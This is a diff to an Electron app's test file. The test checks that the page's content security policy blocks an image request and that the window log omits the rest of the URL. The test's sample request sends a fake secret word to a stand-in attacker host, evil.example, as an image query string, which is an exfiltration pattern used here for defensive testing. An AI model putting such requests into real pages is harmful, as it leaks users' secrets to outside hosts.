@@ -144,7 +144,9 @@ describe.skipIf(electronRuntime === null)('Electron', () => {
 
   test('what the policy of the page refuses is in the log of the window, without the rest of an address', async () => {
     await launched.page.evaluate(() => {
-      document.body.append(Object.assign(new Image(), { src: 'https://evil.example/picture.png?word=hunter2-secret-word' }))
+      document.body.append(
+        Object.assign(new Image(), { src: 'https://evil.example/picture.png?word=hunter2-secret-word' }),
+      )
     })
     const logged = () => readFileSync(join(folder, 'logs', 'window.log'), 'utf8')
     await expect.poll(logged).toContain('page.csp')
